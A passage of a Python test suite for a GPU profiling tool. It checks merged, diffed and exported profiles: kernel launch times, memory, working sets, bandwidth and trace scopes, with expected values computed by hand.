            mem = copy.deepcopy(m)
            continue
        for group in ("allocations", "copies"):
            for kind, v in m[group].items():
                mem[group][kind]["count"] += v["count"]
                mem[group][kind]["bytes"] += v["bytes"]
        for key in ("frees", "unknown_frees", "async_copies"):
            mem[key] += m[key]
        for group, keys in (("live_at_exit", ("count", "bytes")),
                            ("memsets", ("count", "bytes")),
                            ("syncs", ("device", "stream"))):
            for key in keys:
                mem[group][key] += m[group][key]
        mem["peak_bytes"] = max(mem["peak_bytes"], m["peak_bytes"])
    exp["memory"] = mem
    # working set
    ws_in = [(p["working_set"], f) for p, f in have if p["working_set"]["enabled"]]
    rows, outside, first_outside = [], 0, None
    for w, f in ws_in:
        rows += [dict(r, process=f + r.get("process", 0)) for r in w["per_launch"]]
        outside += w["outside"]["accesses"]
        if w["outside"]["accesses"] and first_outside is None:
            first_outside = {x: w["outside"][x] for x in ("first_kernel", "first_file", "first_line")}
    pages = {w["page_size"] for w, _ in ws_in}
    exp["working_set"] = {"enabled": bool(ws_in), "rows": rows,
                          "page_size": pages.pop() if len(pages) == 1 else 0,
                          "skipped": sum(w["skipped"] for w, _ in ws_in),
                          "outside": outside, "first_outside": first_outside}
    # bandwidth: times by source, bytes per launch from the merged counts
    for p, _ in have:
        names = {}
        for k in p["launches"]["kernels"]:
            names.setdefault(k["name"], k["mangled"] or k["name"])
        for r in p["bandwidth"]["kernels"]:
            if r["time_source"] == "none":
                continue
            key = r.get("mangled") or names[r["name"]]
            s = 0 if r["time_source"] == "plain" else 1
            total = r.get("time_total_ns", round(r["time_ns"] * r["timed"]))
            exp["kernels"][key]["bw"][s][0] += r["timed"]
            exp["kernels"][key]["bw"][s][1] += total
    counts = {}
    for p in inputs:
        for k in p["kernels"]:
            c = counts.setdefault(k["mangled"], [0, 0])
            c[0] += k["launches"]
            c[1] += sum(k[g]["global"] for g in ("load_bytes", "store_bytes", "atomic_bytes"))
    exp["counts"] = counts
    devices = [p["bandwidth"]["device"] for p, _ in have if "bandwidth" in p]
    dev = {}
    for key in ("index", "compute_capability", "sms", "bandwidth_theoretical"):
        vals = {json.dumps(d.get(key)) for d in devices}
        dev[key] = json.loads(vals.pop()) if len(vals) == 1 else None
    model = all(len({json.dumps(d.get(k)) for d in devices}) == 1
                for k in ("compute_capability", "sms", "bandwidth_theoretical", "flops"))
    measured = [d["bandwidth_measured"] for d in devices if d.get("bandwidth_measured") is not None]
    dev["bandwidth_measured"] = max(measured) if model and measured else None
    dev["flops"] = {}
    for pr in PRECISIONS:
        vals = {json.dumps(d["flops"].get(pr)) for d in devices}
        dev["flops"][pr] = json.loads(vals.pop()) if len(vals) == 1 else None
    exp["device"] = dev
    exp["sample"] = max(p["bandwidth"]["sample"] for p, _ in have)
    copies = {}
    for p, _ in have:
        for kind, v in p["bandwidth"]["copies"].items():
            c = copies.setdefault(kind, {"count": 0, "bytes": 0, "pinned": 0, "ns": 0})
            for key in ("count", "bytes", "pinned"):
                c[key] += v[key]
            c["ns"] += round(v["seconds"] * 1e9)
    exp["copies"] = copies
    return exp


def compare_sections(merged, inputs, first, what):
    exp = expected_sections(inputs, first)
    la = merged["launches"]
    check({k: la[k] for k in ("total", "counted", "untimed", "gpu_time_ns")} ==
          {k: exp[k] for k in ("total", "counted", "untimed", "gpu_time_ns")},
          f"{what}: launch totals are the inputs' sums")
    check(la["window"] == exp["window"], f"{what}: window ({exp['window']})", la["window"])
    check([k["mangled"] for k in la["kernels"]] == exp["order"],
          f"{what}: one kernel per mangled name, in order of first appearance")
    bad = []
    for k in la["kernels"]:
        e = exp["kernels"][k["mangled"]]
        t = k["gpu_time_ns"]
        ok = all(k[f] == e[f] for f in ("launches", "counted", "ws_launches", "failed",
                                         "timed", "ws_max_touched_bytes",
                                         "ws_max_footprint_bytes"))
        ok &= t["total"] == e["total"] and t["max"] == e["max"] and \
            t["min"] == (e["min"] or 0) and \
            abs(t["mean"] - (e["total"] / e["timed"] if e["timed"] else 0)) <= 0.051
        shapes = {(tuple(s["grid"]), tuple(s["block"]), s["shared_bytes"]): s["launches"]
                  for s in k["shapes"]}
        ok &= shapes == e["shapes"] and \
            [s["launches"] for s in k["shapes"]] == sorted(e["shapes"].values(), reverse=True)
        paths = {json.dumps(c["frames"], sort_keys=True): c["launches"] for c in k["call_paths"]}
        ok &= paths == e["paths"] and len(paths) == len(k["call_paths"]) and \
            [c["launches"] for c in k["call_paths"]] == sorted(e["paths"].values(), reverse=True)
        if not ok:
            bad.append(k["name"])
    check(not bad, f"{what}: per-kernel launches, times, shapes and call paths", bad)
    check(merged["memory"] == exp["memory"],
          f"{what}: memory summed per kind, peak the largest input's",
          (merged["memory"], exp["memory"]))

    ws, ew = merged["working_set"], exp["working_set"]
    check(ws["enabled"] == ew["enabled"], f"{what}: working set enabled")
    if ew["enabled"]:
        check(ws["per_launch"] == ew["rows"] and ws["launches"] == len(ew["rows"]),
              f"{what}: per-launch working sets concatenated, each with its process")
        check(ws["page_size"] == ew["page_size"] and ws["skipped"] == ew["skipped"] and
              ws["outside"]["accesses"] == ew["outside"] and
              {x: ws["outside"][x] for x in ("first_kernel", "first_file", "first_line")} ==
              ew["first_outside"], f"{what}: page size, skipped, outside")
        for key in ("touched_bytes", "footprint_bytes"):
            v = [r[key] for r in ew["rows"]]
            st = ws[key]
            check(st["max"] == max(v) and st["min"] == min(v) and
                  st["median"] == nearest_rank(v, 50) and st["p90"] == nearest_rank(v, 90) and
                  abs(st["mean"] - sum(v) / len(v)) <= 0.051,
                  f"{what}: {key} statistics over all launches", st)

    bw = merged["bandwidth"]
    check(bw["device"] == exp["device"] and bw["sample"] == exp["sample"],
          f"{what}: device and sample",
          (bw["device"], exp["device"]))
    bad = []
    by_name = {}
    for r in bw["kernels"]:
        e = exp["kernels"][r["mangled"]]
        s = 0 if e["bw"][0][0] else 1 if e["bw"][1][0] else None
        src = {0: "plain", 1: "instrumented", None: "none"}[s]
        calls, gbytes = exp["counts"][r["mangled"]]
        bytes_per = gbytes / calls if calls else 0
        touched = [x["touched_bytes"] for x in ew["rows"] if x["kernel"] == r["name"]]
        ok = r["launches"] == e["launches"] and r["counted"] == e["counted"] and \
            r["time_source"] == src and close(r["bytes"], bytes_per) and \
            close(r["unique_bytes"], sum(touched) / len(touched) if touched else None)
        if s is not None:
            timed, total = e["bw"][s]
            time_ns = total / timed
            ok &= r["timed"] == timed and r["time_total_ns"] == total and \
                close(r["time_ns"], time_ns) and \
                close(r["bandwidth"], bytes_per / (time_ns * 1e-9))
        if not ok:
            bad.append((r["name"], r, e["bw"], bytes_per))
        by_name[r["name"]] = r
    check(not bad and len(bw["kernels"]) == len(exp["order"]),
          f"{what}: bandwidth rows from summed bytes and times", bad[:1])
    bad = []
    for kind, c in bw["copies"].items():
        e = exp["copies"][kind]
        ok = c["count"] == e["count"] and c["bytes"] == e["bytes"] and \
            c["pinned"] == e["pinned"] and round(c["seconds"] * 1e9) == e["ns"] and \
            close(c["bandwidth"], e["bytes"] / (e["ns"] * 1e-9) if e["ns"] else None)
        if not ok:
            bad.append(kind)
    check(not bad, f"{what}: copies summed, bandwidth recomputed", bad)
    return by_name


def test_merge_activity():
    a = load(WS)
    b = second_rank(a)
    bp = save(b, "rank1.ws.json")
    ab = merge("ab.json", WS, bp)
    by_name = compare_sections(ab, [a, b], [0, 1], "merge a b")
    # By hand: fill 3 + 6 launches, 785824 + 3 x 785824 ns, min 5000 (b's),
    # max 500000 (b's); memory twice a's plus a's, peak b's (2 x a's).
    fill = [k for k in ab["launches"]["kernels"] if k["name"] == "fill"][0]
    check(fill["launches"] == 9 and fill["gpu_time_ns"]["total"] == 4 * 785824 and
          fill["gpu_time_ns"]["min"] == 5000 and fill["gpu_time_ns"]["max"] == 500000 and
          fill["gpu_time_ns"]["mean"] == round(4 * 785824 / 9, 1),
          "merge: fill 9 launches, 3143296 ns (by hand)", fill["gpu_time_ns"])
    check(ab["memory"]["allocations"]["device"] == {"count": 15, "bytes": 3 * 14418020} and
          ab["memory"]["peak_bytes"] == 2 * 14024804 and
          ab["memory"]["live_at_exit"] == {"count": 1, "bytes": 4096},
          "merge: memory 5 + 10 device allocations, peak of the larger (by hand)")
    # Bandwidth by hand: fill wrote 196612 + 4 x 196612 bytes in 9 launches;
    # time (261941 x 3 + 392912 x 6) / 9 = 349255 ns per launch.
    r = by_name.get("fill", {})
    check(close(r.get("bytes"), 5 * 196612 / 9) and r.get("time_total_ns") == 3143295 and
          close(r.get("time_ns"), 349255) and
          close(r.get("bandwidth"), 5 * 196612 / 9 / 349255e-9),
          "merge: fill bandwidth = summed bytes / summed time (by hand)", r)
    check(ab["working_set"]["launches"] == 6 + 9 and
          [x["process"] for x in ab["working_set"]["per_launch"]] == [0] * 6 + [1] * 9,
          "merge: 6 + 9 working-set launches, processes 0 and 1")
    check(ab["bandwidth"]["device"]["bandwidth_measured"] == 4.1e12,
          "merge: measured bandwidth the largest of one model of GPU")
    out = run("show", os.path.join(WORK, "ab.json")).stdout
    check("pasta: kernel launches: 15 launches of 3 kernels, 15 counted" in out and
          "15 launches tracked" in out and re.search(r"^  fill +9 +9 ", out, re.M),
          "show reads the merged sections back", out[-800:])

    # A third run with another launch window, no working set, plain times.
    c = load(WINDOW)
    ac = merge("ac.json", WS, WINDOW)
    compare_sections(ac, [a, c], [0, 1], "merge a c")
    check(ac["launches"]["window"] is None, "merge: windows differ -> null")
    fills = [x for x in ac["bandwidth"]["kernels"] if x["name"] == "fill"]
    check(fills and fills[0]["time_source"] == "plain" and fills[0]["timed"] == 2 and
          fills[0]["time_ns"] == 261664,
          "merge: plain times win over instrumented ones (window run's)", fills)
    check([x["process"] for x in ac["working_set"]["per_launch"]] == [0] * 6,
          "merge: an input without working sets adds no launches")

    # Merging merged profiles: every grouping gives the same sections.
    abc = merge("abc.json", WS, bp, WINDOW)
    compare_sections(abc, [a, b, c], [0, 1, 2], "merge a b c")
    ab_c = merge("ab_c.json", os.path.join(WORK, "ab.json"), WINDOW)
    bc = merge("bc.json", bp, WINDOW)
    a_bc = merge("a_bc.json", WS, os.path.join(WORK, "bc.json"))
    for name, m in (("merge(merge(a,b),c)", ab_c), ("merge(a,merge(b,c))", a_bc)):
        diffs = [s for s in ACTIVITY if m.get(s) != abc.get(s)]
        check(not diffs, f"{name} equals merge(a,b,c) on {', '.join(ACTIVITY)}", diffs)
    check([s["pid"] for s in ab_c["merged_from"]] == [420, 421, 428],
          "merge of a merged profile: processes 0, 1, 2 are merged_from's")

    # Different models of GPU: the device is unknown, its rates too.
    h100 = copy.deepcopy(a)
    h100["bandwidth"]["device"].update(sms=114, bandwidth_measured=3.0e12)
    mixed = merge("mixed.json", WS, save(h100, "h100.json"))
    d = mixed["bandwidth"]["device"]
    check(d["sms"] is None and d["bandwidth_measured"] is None and
          d["compute_capability"] == "9.0" and
          all(close(x["bandwidth_fraction"], x["bandwidth"] / 4.8143e12)
              for x in mixed["bandwidth"]["kernels"]),
          "merge: GPUs of other models -> sms and measured bandwidth null, "
          "fractions of the common theoretical peak", d)
    # Inputs without the sections (host-only profiles) add nothing to them.
    plain = merge("with_host.json", WS, HOST_DOT)
    check(all(plain[s] == merge("ws_only.json", WS)[s] for s in ACTIVITY),
          "merge: a profile without the sections leaves them as they were")
    none = merge("no_sections.json", HOST_DOT, HOST_REC)
    check(not any(s in none for s in ACTIVITY), "merge: no sections when no input has them")


def test_diff_activity():
    before = load(WS)
    after = copy.deepcopy(before)
    la = {k["name"]: k for k in after["launches"]["kernels"]}
    la["fill"]["gpu_time_ns"].update(total=785824 // 2, mean=785824 / 6)
    la["copy"]["ws_max_footprint_bytes"] = 4718592 // 2
    after["launches"]["kernels"] = [k for k in after["launches"]["kernels"]
                                    if k["name"] != "bump_global"]
    rows = {r["name"]: r for r in after["bandwidth"]["kernels"]}
    rows["fill"].update(time_source="plain", time_ns=130971, bandwidth=500398000.0)
    after["bandwidth"]["kernels"] = [r for r in after["bandwidth"]["kernels"]
                                     if r["name"] != "bump_global"]
    after["memory"]["copies"]["d2h"]["bytes"] *= 2
    out = run("diff", WS, save(after, "after.ws.json")).stdout
    lines = out[out.find("Launches, GPU time"):].splitlines()

    def block(name):
        for i, l in enumerate(lines):
            if l.split()[:1] == [name]:
                rows = []
                for x in lines[i:]:
                    if rows and x.split()[:1] and x.split()[0] in ("fill", "copy", "bump_global"):
                        break
                    if not x.strip():
                        break
                    rows.append(re.sub(r"\s+", " ", x.strip()))
                return rows
        return None

    # Hand-derived: fill's GPU time halves (785.8 -> 392.9 us); its bandwidth
    # doubles, 0.25 GB/s timed on instrumented launches -> 0.5 on plain ones.
    check(block("fill") == ["fill changed launches 3 3 1.00x",
                            "GPU time (us) 785.8 392.9 0.50x",
                            "bandwidth (GB/s) 0.25* 0.5 2.00x",
                            "max footprint (B) 4194304 4194304 1.00x",
                            "max touched (B) 262144 262144 1.00x"],
          "diff: fill's launches, GPU time, bandwidth, working set", block("fill"))
    check(block("copy") == ["copy changed launches 2 2 1.00x",
                            "GPU time (us) 46.8 46.8 1.00x",
                            "bandwidth (GB/s) 22.4* 22.4* 1.00x",
                            "max footprint (B) 4718592 2359296 0.50x",
                            "max touched (B) 1048576 1048576 1.00x"],
          "diff: copy's footprint halves", block("copy"))
    check(block("bump_global") == ["bump_global removed launches 1 - -",
                                   "GPU time (us) 21.5 - -",
                                   "bandwidth (GB/s) 0.0119* - -",
                                   "max footprint (B) 0 - -",
                                   "max touched (B) 0 - -"],
          "diff: bump_global removed", block("bump_global"))
    names = [l.split()[0] for l in lines if re.match(r"^  \S+\s+(changed|same|added|removed)\s", l)]
    check(names == ["fill", "bump_global", "copy"],
          "diff: kernels by size of the change of GPU time", names)
    mem = [re.sub(r"\s+", " ", l.strip()) for l in lines if l.startswith("  copied bytes")]
    check(mem == ["copied bytes 524388 1048776 2.00x"], "diff: copied bytes doubled", mem)
    out = run("diff", WS, WS).stdout
    check(" changed " not in out and "fill same launches 3 3 1.00x" in re.sub(r"\s+", " ", out),
          "diff of a profile with itself: all same")
    # Profiles without the sections: one line, no tables.
    out = run("diff", GPU, GPU).stdout
    check("No launches, GPU times, bandwidth or working sets in either profile" in out
          and "Memory" not in out, "diff without launches: one line")
    # A merged profile diffs against its inputs.
    m = merge("self2.json", WS, copy_of(WS))
    out = re.sub(r"\s+", " ", run("diff", WS, os.path.join(WORK, "self2.json")).stdout)
    check("fill changed launches 3 6 2.00x GPU time (us) 785.8 1571.6 2.00x "
          "bandwidth (GB/s) 0.25* 0.25* 1.00x" in out,
          "diff against a merge of a profile with itself: launches and time double, "
          "bandwidth stays", out[out.find("Launches"):][:400])


# ------------------------------- show --format json/csv: the sections
def csv_blocks(text):
    """The CSV output's blocks: {"": the first table, NAME: (header, rows)
    of each "# NAME" block}, rows as dicts. Blocks are separated by one
    blank line and start with "# NAME", then their header row."""
    lines = text.split("\n")
    starts = [i for i, l in enumerate(lines)
              if l.startswith("# ") and i > 0 and lines[i - 1] == ""]
    blocks = {"": parse_csv("\n".join(lines[:starts[0] - 1] if starts else lines))}
    for n, i in enumerate(starts):
        end = starts[n + 1] - 1 if n + 1 < len(starts) else len(lines)
        body = "\n".join(lines[i + 1:end])
        header = next(csv.reader(io.StringIO(body)), [])
        blocks[lines[i][2:]] = (header, parse_csv(body))
    return blocks


def at(obj, path):
    for key in path.split("."):
        obj = obj.get(key) if isinstance(obj, dict) else None
    return obj


def cell_ok(text, value):
    """A CSV cell against the JSON value it was written from."""
    if value is None:
        return text == ""
    if isinstance(value, bool):
        return text == ("true" if value else "false")
    if isinstance(value, float):
        return text != "" and float(text) == value
    return text == str(value)


def rows_match(rows, objs, header, process=None):
    """Every cell of every row equals the JSON value at its column's path."""
    bad = []
    if len(rows) != len(objs):
        return [("rows", len(rows), len(objs))]
    for i, (r, o) in enumerate(zip(rows, objs)):
        for col in header:
            if col == "process":
                want = process[i] if process is not None else o.get("process", 0)
                if r[col] != str(want):
                    bad.append((i, col, r[col], want))
            elif not cell_ok(r[col], at(o, col)):
                bad.append((i, col, r[col], at(o, col)))
    return bad


def ws_stats(values):
    if not values:
        return {"max": 0, "min": 0, "mean": 0.0, "median": 0, "p90": 0}
    return {"max": max(values), "min": min(values),
            "mean": round(sum(values) / len(values), 1),
            "median": nearest_rank(values, 50), "p90": nearest_rank(values, 90)}


def test_sections():
    for path in (WS, WINDOW):
        name = os.path.basename(path)
        original = load(path)
        text = run("show", path, "--format", "json").stdout
        shown = json.loads(text)
        check(all(shown.get(s) == original[s] for s in ACTIVITY),
              f"json {name}: launches, memory, working_set, bandwidth kept",
              [s for s in ACTIVITY if shown.get(s) != original[s]])
        check(shown == dict(original, version=6, job=NO_JOB, omitted=NO_OMITTED),
              f"json {name}: the whole profile JSON-equal (version 1 read, 6 written)",
              [k for k in original if shown.get(k) != original[k]])
        again = save(shown, "shown_" + name)
        check(run("show", again).stdout == run("show", path).stdout,
              f"json {name}: show of the JSON renders the same tables")
        check(run("show", again, "--format", "json").stdout == text,
              f"json {name}: show --format json is idempotent")

    ws = load(WS)
    # --kernel: per-kernel rows of fill only; the working-set statistics
    # describe the rows kept; totals and memory stay the run's.
    out = json.loads(run("show", WS, "--format", "json", "--kernel", "^fill$").stdout)
    fills = [r for r in ws["working_set"]["per_launch"] if r["kernel"] == "fill"]
    check([k["name"] for k in out["launches"]["kernels"]] == ["fill"] and
          out["launches"]["kernels"][0] == ws["launches"]["kernels"][0] and
          out["launches"]["total"] == ws["launches"]["total"],
          "json --kernel ^fill$: launches.kernels is fill's entry, total the run's")
    w = out["working_set"]
    check(w["per_launch"] == fills and w["launches"] == len(fills) == 3 and
          w["touched_bytes"] == ws_stats([r["touched_bytes"] for r in fills]) and
          w["footprint_bytes"] == ws_stats([r["footprint_bytes"] for r in fills]),
          "json --kernel ^fill$: fill's 3 working-set launches, statistics over them",
          w)
    # By hand: fill touched 65536, 262144 and 131072 bytes.
    check(w["touched_bytes"] == {"max": 262144, "min": 65536, "mean": 152917.3,
                                 "median": 131072, "p90": 262144},
          "json --kernel ^fill$: touched bytes statistics (by hand)")
    check([r["name"] for r in out["bandwidth"]["kernels"]] == ["fill"] and
          out["memory"] == ws["memory"] and
          out["bandwidth"]["copies"] == ws["bandwidth"]["copies"],
          "json --kernel ^fill$: fill's bandwidth row; memory and copies kept")
    # --file goes through the kernels' files (from "kernels").
    out = json.loads(run("show", WS, "--format", "json", "--file", "working_set.cu").stdout)
    check(all(out[s] == ws[s] for s in ("launches", "bandwidth")) and
          out["working_set"]["per_launch"] == ws["working_set"]["per_launch"],
          "json --file working_set.cu keeps every kernel")
    out = json.loads(run("show", WS, "--format", "json", "--file", "other.cu").stdout)
    check(out["launches"]["kernels"] == [] and out["working_set"]["per_launch"] == []
          and out["working_set"]["launches"] == 0 and out["bandwidth"]["kernels"] == [],
          "json --file other.cu: no per-kernel rows")
    table = run("show", WS, "--kernel", "^copy$").stdout
    check(re.search(r"^  copy +2 +2 ", table, re.M) and
          not re.search(r"^  fill +3 ", table, re.M) and "2 launches tracked" in table,
          "show --kernel ^copy$: the launch and working-set tables keep copy")

    # CSV: the function table first, then one block per section.
    b = csv_blocks(run("show", WS, "--format", "csv").stdout)
    check(list(b) == ["", "launches", "memory", "working_set", "bandwidth"],
          "csv: blocks in section order", list(b))
    check(len(b[""]) == len(ws["kernels"]) + len(ws["device_functions"]),
          "csv: the function table is unchanged first", len(b[""]))
    checks = [("launches", ws["launches"]["kernels"], None),
              ("memory", [ws["memory"]], None),
              ("working_set", ws["working_set"]["per_launch"], [0] * 6),
              ("bandwidth", ws["bandwidth"]["kernels"], None)]
    for name, objs, process in checks:
        header, rows = b.get(name, ([], []))
        bad = rows_match(rows, objs, header, process)
        check(header and not bad, f"csv {name}: {len(objs)} rows, every cell the JSON's",
              bad[:3])
    check(b["memory"][0][:2] == ["allocations.device.count", "allocations.device.bytes"]
          and len(b["memory"][0]) == 30 and b["memory"][1][0]["peak_bytes"] == "14024804",
          "csv memory: one row of 30 columns, peak 14024804 (by hand)")
    check(b["working_set"][0][0] == "process" and
          [r["kernel"] for r in b["working_set"][1]] ==
          ["fill", "copy", "fill", "bump_global", "fill", "copy"],
          "csv working_set: process column, launches in order")
    b = csv_blocks(run("show", WS, "--format", "csv", "--kernel", "^copy$").stdout)
    check([len(b[s][1]) for s in ("launches", "memory", "working_set", "bandwidth")]
          == [1, 1, 2, 1], "csv --kernel ^copy$: 1, 1, 2 and 1 rows",
          [len(b[s][1]) for s in b if s])
    b = csv_blocks(run("show", WS, "--format", "csv", "--lines").stdout)
    check(len(b[""]) == len(ws["lines"]) and "bandwidth" in b,
          "csv --lines: the line table, then the blocks")
    b = csv_blocks(run("show", GPU, "--format", "csv").stdout)
    check(list(b) == [""], "csv of a profile without the sections: one table")
    # A merged profile: processes and mangled names in the rows.
    m = merge("sections_ab.json", WS, copy_of(WS))
    b = csv_blocks(run("show", os.path.join(WORK, "sections_ab.json"), "--format", "csv").stdout)
    check([r["process"] for r in b["working_set"][1]] == ["0"] * 6 + ["1"] * 6 and
          not rows_match(b["bandwidth"][1], m["bandwidth"]["kernels"], b["bandwidth"][0])
          and all(r["mangled"] for r in b["bandwidth"][1]),
          "csv of a merged profile: working-set processes 0 and 1, mangled names")


# ---------------------------------------------------------------- trace
# tests/fixtures/trace_scopes.json: tests/host/scopes.c run as `scopes 5` in
# trace mode (PASTA_HOST=1 PASTA_TRACE=1, -O0; see the module docstring).
def fmt_bytes(v):
    units = ["B", "KiB", "MiB", "GiB", "TiB", "PiB"]
    x, u = float(v), 0
    while x >= 1024 and u + 1 < len(units):
        x, u = x / 1024, u + 1
    return f"{v} B" if u == 0 else f"{x:.2f} {units[u]}"


def fmt_time(ns):
    if ns >= 10**9:
        return f"{ns / 1e9:.3f} s"
    if ns >= 10**6:
        return f"{ns / 1e6:.3f} ms"
    if ns >= 10**3:
        return f"{ns / 1e3:.1f} us"
    return f"{ns} ns"


CLASSES = ["unknown", "constant", "stride-1", "stride-k", "indirect"]


def scope_cells(s):
    """A row of the scope table, as the documented columns give it."""
    st, dy = s["accesses"]["static"], s["accesses"]["dynamic"]

    def cls(stat, dyn):
        return f"{stat}/{dyn}" if stat or dyn else "-"
    other = [c for c in CLASSES if c not in ("stride-k", "indirect")]
    return [s["funcname"], s["scope_type"],
            f"{os.path.basename(s['filename'])}:{s['line']}", str(s["executions"]),
            str(s["max_loop_nest"]), str(s["loops"]),
            cls(st["stride-k"], dy["stride-k"]), cls(st["indirect"], dy["indirect"]),
            cls(sum(st[c] for c in other), sum(dy[c] for c in other)),
            *fmt_bytes(s["footprint_bytes"]).split()]


def table_after(out, title):
    """The rows (split cells) of the table under the line holding `title`."""
    lines = out.splitlines()
    for i, l in enumerate(lines):
        if title in l:
            rows = []
            for x in lines[i + 2:]:
                if not x.startswith("  "):
                    break
                rows.append(x.split())
            return l, rows
    return None, []


def with_buffers(p):
    """The fixture with buffers, loop allocations and reuse (its run had no
    device memory): two 1 MiB device buffers, one in a loop, one unused."""
    t = copy.deepcopy(p)
    tr = t["trace"]
    tr["footprint"] = {"peak_bytes": 2 * 2**20, "peak_time_ns": 1500,
                       "peak_buffers": 2, "final_bytes": 4096, "final_buffers": 1}
    tr["buffers"] = [
        {"id": 1, "name": "d_a", "kind": "device", "size": 2**20, "freed": True,
         "alloc_lifetime_ns": 2_500_000, "use_lifetime_ns": 500_000,
         "use_ratio": 0.2, "file": "/src/app.cu", "line": 12},
        {"id": 2, "name": "d,b", "kind": "device", "size": 2**20, "freed": True,
         "alloc_lifetime_ns": 900, "use_lifetime_ns": None, "use_ratio": None,
         "file": "/src/app.cu", "line": 30},
        {"id": 3, "name": "h", "kind": "pinned host", "size": 4096, "freed": False,
         "alloc_lifetime_ns": 12260, "use_lifetime_ns": 12000, "use_ratio": 0.9788,
         "file": "/src/app.cu", "line": 8}]
    tr["loop_allocations"] = [
        {"file": "/src/app.cu", "line": 30, "loop_id": 3841046743,
         "loop_file": "/src/app.cu", "loop_line": 29, "loop_depth": 2,
         "allocations": 5, "bytes": 5 * 2**20}]
    tr["reuse"] = {"saving_bytes": 2**20, "groups": [
        {"size": 2**20, "kind": "device", "buffers": 2, "max_live": 1,
         "saving_bytes": 2**20}]}
    return t


def test_trace():
    p = load(TRACE)
    tr = p["trace"]
    out = run("show", TRACE).stdout
    fp = tr["footprint"]
    line = (f"pasta: trace: memory footprint peak {fmt_bytes(fp['peak_bytes'])} at "
            f"{fmt_time(fp['peak_time_ns'])} ({fp['peak_buffers']} buffers live); "
            f"{fmt_bytes(fp['final_bytes'])} in {fp['final_buffers']} buffers never freed")
    check(line in out, "show trace: the footprint line", line)
    n = len(tr["scopes"])
    title, rows = table_after(out, "pasta: trace: scopes, functions and kernels first")
    check(title is not None and f"(top {n} of {n};" in title and
          rows == [scope_cells(s) for s in tr["scopes"]],
          f"show trace: the {n} rows of the scope table, from the fixture",
          rows[:2])
    # The fixture against tests/host/scopes.c with R = 5: executions of each
    # scope, and the host functions' calls for the func scopes.
    by = {(s["scope_type"], s["funcname"], s["line"]): s for s in tr["scopes"]}
    want = {("func", "main", 47): 1, ("loop", "main", 51): 1,
            ("conditional", "main", 52): 5, ("func", "even", 23): 3,
            ("func", "odd", 24): 2, ("func", "tri", 26): 5, ("loop", "tri", 28): 5,
            ("loop", "tri", 29): 30, ("func", "find", 34): 5, ("loop", "find", 35): 5,
            ("func", "depth", 41): 20}
    check(all(by.get(k, {}).get("executions") == v for k, v in want.items()),
          "fixture: scope executions of scopes.c at R = 5 (by hand)",
          [k for k, v in want.items() if by.get(k, {}).get("executions") != v])
    calls = {f["name"]: f["calls"] for f in p["host_functions"]}
    check(all(calls.get(s["funcname"]) == s["executions"]
              for s in tr["scopes"] if s["scope_type"] == "func"),
          "fixture: func scope executions equal the host functions' calls")
    check(by[("func", "main", 47)]["max_loop_nest"] == 3 and
          by[("loop", "tri", 28)]["max_loop_nest"] == 2,
          "fixture: loop nests (main 3: its loop, tri's two; tri's outer loop 2)")
    out3 = run("show", TRACE, "--top", "3").stdout
    check(f"(top 3 of {n};" in out3, "show trace --top 3")
    out = run("show", TRACE, "--kernel", "^tri$").stdout
    title, rows = table_after(out, "pasta: trace: scopes, functions and kernels first")
    check(title and "(top 3 of 3;" in title and {r[0] for r in rows} == {"tri"},
          "show --kernel ^tri$: tri's three scopes", rows)
    out = run("show", TRACE, "--file", "other.c").stdout
    check("memory footprint peak" in out and "pasta: trace: scopes" not in out,
          "show --file other.c: no scope matches, the footprint stays")

    # Buffers, loop allocations and reuse (a modified copy).
    bufs = with_buffers(p)
    bp = save(bufs, "trace_buffers.json")
    out = run("show", bp).stdout
    check("memory footprint peak 2.00 MiB at 1.5 us (2 buffers live); 4.00 KiB in "
          "1 buffers never freed" in out, "show trace: footprint of the copy (by hand)")
    title, rows = table_after(out, "pasta: trace: buffers by size")
    check(title and "(top 3 of 3)" in title and rows == [
        ["d_a", "device", "1.00", "MiB", "2.500", "ms", "500.0", "us", "20.0%", "app.cu:12"],
        ["d,b", "device", "1.00", "MiB", "900", "ns", "never", "used", "-", "app.cu:30"],
        ["h", "pinned", "host", "4.00", "KiB", "12.3", "us", "(never", "freed)",
         "12.0", "us", "97.9%", "app.cu:8"]],
          "show trace: buffer lifetimes (by hand)", rows)
    title, rows = table_after(out, "pasta: trace: allocations inside loops")
    check(rows == [["app.cu:30", "app.cu:29", "2", "5", "5.00", "MiB"]],
          "show trace: allocations in loops (by hand)", rows)
    title, rows = table_after(out, "pasta: trace: reuse candidates")
    check(title and "reuse would save 1.00 MiB" in title and
          rows == [["1.00", "MiB", "device", "2", "1", "1.00", "MiB"]],
          "show trace: reuse group (by hand)", rows)

    # JSON: every section round-trips; filters cut the scopes only.
    for path, orig in ((TRACE, p), (bp, bufs)):
        text = run("show", path, "--format", "json").stdout
        shown = json.loads(text)
        check(shown.get("trace") == orig["trace"] and
              shown == dict(orig, version=6, job=NO_JOB, omitted=NO_OMITTED),
              f"json {os.path.basename(path)}: trace and every other section JSON-equal",
              [k for k in orig if shown.get(k) != orig[k]])
        again = save(shown, "shown_" + os.path.basename(path))
        check(run("show", again).stdout == run("show", path).stdout,
              f"json {os.path.basename(path)}: show of it renders the same tables")
    out = json.loads(run("show", TRACE, "--format", "json", "--kernel", "^tri$").stdout)
    check([s["funcname"] for s in out["trace"]["scopes"]] == ["tri"] * 3 and
          {k: v for k, v in out["trace"].items() if k != "scopes"} ==
          {k: v for k, v in tr.items() if k != "scopes"},
          "json --kernel ^tri$: tri's scopes; footprint, buffers, reuse kept")

    # CSV: the five trace blocks, rows and cells from the JSON.
    b = csv_blocks(run("show", bp, "--format", "csv").stdout)
    tb = bufs["trace"]
    check(list(b) == ["", "trace.footprint", "trace.buffers", "trace.loop_allocations",
                      "trace.reuse", "trace.scopes"], "csv trace: five blocks", list(b))
    for name, objs in (("trace.footprint", [tb]), ("trace.buffers", tb["buffers"]),
                       ("trace.loop_allocations", tb["loop_allocations"]),
                       ("trace.reuse", tb["reuse"]["groups"]),
                       ("trace.scopes", tb["scopes"])):
        header, rows = b.get(name, ([], []))
        bad = rows_match(rows, objs, header, [0] * len(objs))
        check(header[:1] == ["process"] and not bad,
              f"csv {name}: {len(objs)} rows, every cell the JSON's", bad[:3])
    check(b["trace.scopes"][1][6]["accesses.dynamic.stride-k"] == "0" and
          len(b["trace.scopes"][0]) == 1 + 9 + 10 + 2,
          "csv trace.scopes: 22 columns, per-class counts")
    b = csv_blocks(run("show", TRACE, "--format", "csv", "--kernel", "^(tri|find)$").stdout)
    check(len(b["trace.scopes"][1]) == 5 and len(b["trace.buffers"][1]) == 0,
          "csv --kernel ^(tri|find)$: 5 scope rows, no buffers")

    # merge: one trace per process, in "traces".
